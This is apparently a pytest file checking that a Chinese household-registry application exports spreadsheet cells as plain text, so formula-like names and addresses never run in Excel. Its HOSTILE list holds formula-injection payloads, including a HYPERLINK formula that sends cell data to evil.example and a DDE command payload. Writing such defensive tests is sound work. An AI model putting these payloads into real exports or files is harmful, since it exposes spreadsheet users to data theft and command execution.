"""Exports write cell text as given: a name or address beginning like a formula never becomes a
live formula in the .xlsx nor one Excel would run from the .csv (issue 7, point 5)."""

from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from lianxin.core import sheets
from lianxin.core.tabular import write_rows
from lianxin.pairing.coverage_tables import Table, write_xlsx
from lianxin.people.services import do_update_household
from lianxin.transfer.exporters import export_people

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _ooxml_text(value: object) -> object:
    """A cell's text as Excel reads it: XlsxWriter escapes control characters as _xHHHH_
    (OOXML's escape), which Excel decodes and openpyxl leaves as they are."""
    if not isinstance(value, str):
        return value
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def _xlsx_cells(data: bytes) -> list[tuple[object, str]]:
    book = load_workbook(io.BytesIO(data))
    try:
        return [
            (_ooxml_text(c.value), c.data_type)
            for ws in book
            for row in ws.iter_rows()
            for c in row
        ]
    finally:
        book.close()


@pytest.mark.parametrize("value", HOSTILE)
def test_it_writes_formula_like_text_as_text_in_xlsx(value):
    out = io.BytesIO()
    write_rows(out, "x.xlsx", ["地址"], [[value], [42], ["-5"]])
    cells = _xlsx_cells(out.getvalue())
    # The text, stored as a string: nothing to evaluate (XML may turn a leading CR into LF).
    assert any(kind == "s" and str(v).strip() == value.strip() for v, kind in cells)
    assert not any(kind == "f" for _, kind in cells)
    assert (42, "n") in cells


@pytest.mark.parametrize("value", HOSTILE)
def test_it_defuses_formula_like_text_in_csv(value):
    out = io.StringIO()
    write_rows(out, "x.csv", ["地址"], [[value], ["-5"], ["大坪村6组12号"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1] == ["'" + value]
    assert rows[2] == ["-5"] and rows[3] == ["大坪村6组12号"]  # numbers and plain text untouched


def test_it_keeps_the_coverage_export_free_of_formulas():
    out = io.BytesIO()
    columns = [sheets.text("户号"), sheets.text("地址")]
    heading = sheets.Heading(title="=1+1", filters="=A1", made_by="@SUM(1)")
    write_xlsx(
        out, Table("未结对的户", columns, iter([["H1", HOSTILE[0]]])), [("筛选", "=1")], heading
    )
    cells = _xlsx_cells(out.getvalue())
    assert (HOSTILE[0], "s") in cells and ("=1", "s") in cells and ("=1+1", "s") in cells
    assert not any(kind == "f" for _, kind in cells)


@pytest.mark.parametrize("name", ["居民.xlsx", "居民.csv"])
def test_it_exports_a_hostile_address_from_the_registry_as_text(world, name):
    do_update_household(world.household, address=HOSTILE[0], acting_user=world.township_staff)
    out = io.BytesIO() if name.endswith(".xlsx") else io.StringIO()
    export_people(out, name, county=world.county, kind="residents", user=world.township_staff)
    if name.endswith(".xlsx"):
        cells = _xlsx_cells(out.getvalue())
        assert (HOSTILE[0], "s") in cells
        assert not any(kind == "f" for _, kind in cells)
    else:
        text = out.getvalue()
        assert "'" + HOSTILE[0].replace('"', '""') in text
